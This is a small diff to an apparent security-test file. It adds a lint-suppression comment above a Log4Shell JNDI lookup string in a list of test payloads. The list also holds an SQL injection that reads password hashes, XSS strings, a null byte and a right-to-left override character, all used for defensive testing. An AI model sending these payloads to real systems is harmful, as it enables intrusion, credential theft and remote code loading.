@@ -20,6 +20,7 @@ const PAYLOADS = [
   '1 UNION SELECT name, password_hash FROM users',
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, sent as plain text on purpose
   '${jndi:ldap://example.invalid/a}',
   'nul\u0000byte',
   '\u202Eevil',
